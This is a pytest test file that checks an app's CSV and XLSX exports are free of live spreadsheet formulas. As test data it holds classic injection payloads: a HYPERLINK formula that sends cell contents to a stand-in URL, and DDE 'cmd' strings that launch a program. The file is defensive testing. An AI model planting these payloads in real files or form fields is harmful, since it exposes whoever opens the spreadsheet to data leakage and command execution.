"""Every CSV/XLSX download is free of live formulas (CSV injection, issue 13).

Text that a member typed (a tool's name, a vendor, a person's name) may start with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return. A spreadsheet would run it as a formula, so
the CSV gets a leading apostrophe and the XLSX stores it as text. All names are made up.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from carai.core.exports import FORMULA_STARTS, csv_cell, safe_text, unsafe_text
from carai.kpis import views as kpi_views
from carai.register.models import AITool
from carai.register.services import tool_create
from tests.conftest import World, client_for, downloaded

HOSTILE = [
    '=HYPERLINK("http://x"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a number written by us, not a formula
TYPED = HOSTILE[:4]  # forms strip white space: what a person can save


def csv_cells(body: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        yield from row


def assert_csv_safe(body: bytes, *, expected: list[str]) -> None:
    cells = list(csv_cells(body))
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert not live, f"live formulas in the CSV: {live}"
    for text in expected:
        assert "'" + text in cells, f"{text!r} is not kept (behind an apostrophe)"


def assert_xlsx_safe(body: bytes, *, expected: list[str]) -> None:
    book = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formulas stored in the XLSX: {formulas}"
    values = {str(cell.value).strip() for cell in cells}  # XML keeps no carriage return
    for text in expected:
        assert text.strip() in values, f"{text!r} is not kept as text"


def test_the_helper_neutralises_every_formula_start() -> None:
    for text in HOSTILE:
        assert safe_text(text) == "'" + text
        assert unsafe_text(safe_text(text)) == text  # our own file reads back as typed
    assert csv_cell("Zorg & Welzijn") == "Zorg & Welzijn"
    assert csv_cell("'t Zonnehuis") == "'t Zonnehuis"
    assert unsafe_text("'t Zonnehuis") == "'t Zonnehuis"
    assert csv_cell(-3) == -3  # numbers stay numbers
    assert csv_cell(None) == ""


@pytest.fixture
def hostile_tools(world: World) -> list[AITool]:
    return [
        tool_create(
            organisation=world.org_a,
            actor=world.privacy_officer,
            data={
                "name": text,
                "vendor": TYPED[(i + 1) % len(TYPED)],
                "purpose": "Fictief",
                "status": "under_review",
            },
            rules={"internal": ("allowed_with_conditions", TYPED[(i + 2) % len(TYPED)])},
        )
        for i, text in enumerate(TYPED)
    ]


def test_register_csv_has_no_live_formulas_and_reads_back_unchanged(
    hostile_tools: list[AITool], world: World
) -> None:
    officer = client_for(world.privacy_officer)
    export = reverse("register:export_csv", kwargs={"slug": world.org_a.slug})
    body = downloaded(client_for(world.care_worker).get(export))  # every member may download
    assert_csv_safe(body, expected=TYPED)
    file = io.BytesIO(body)
    file.name = "register.csv"
    response = officer.post(
        reverse("register:import_csv", kwargs={"slug": world.org_a.slug}), {"file": file}
    )
    assert response.status_code == 302, response.context and response.context["problems"]
    names = set(AITool.objects.filter(organisation=world.org_a).values_list("name", flat=True))
    assert names == {tool.name for tool in hostile_tools}  # no apostrophes crept in
    assert all(tool.revision == 1 for tool in AITool.objects.filter(organisation=world.org_a))


@pytest.fixture
def hostile_kpi_labels(monkeypatch: pytest.MonkeyPatch) -> None:
    """No member's text reaches the key figures today; prove the export would neutralise it."""
    rows = kpi_views._rows

    def with_hostile(board: object) -> list[tuple[str, int, int | None]]:
        return [*rows(board), *[(text, -1, None) for text in HOSTILE]]  # type: ignore[arg-type]

    monkeypatch.setattr(kpi_views, "_rows", with_hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_key_figures_exports_have_no_live_formulas(
    hostile_kpi_labels: None, world: World, fmt: str
) -> None:
    body = downloaded(client_for(world.lead).get(reverse("kpis:export", kwargs={"fmt": fmt})))
    if fmt == "csv":
        assert_csv_safe(body, expected=HOSTILE)
        assert "-1" in list(csv_cells(body))  # a negative number is a number, not a formula
    else:
        assert_xlsx_safe(body, expected=HOSTILE)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_team_progress_exports_have_no_live_formulas(world: World, fmt: str) -> None:
    people = [world.care_worker, world.educator, world.privacy_officer, world.org_admin]
    for person, text in zip(people, TYPED, strict=True):
        person.full_name = text
        person.save()
    names = TYPED
    url = reverse("learning:team_export", kwargs={"slug": world.org_a.slug, "fmt": fmt})
    body = downloaded(client_for(world.manager).get(url))
    if fmt == "csv":
        assert_csv_safe(body, expected=names)
    else:
        assert_xlsx_safe(body, expected=names)
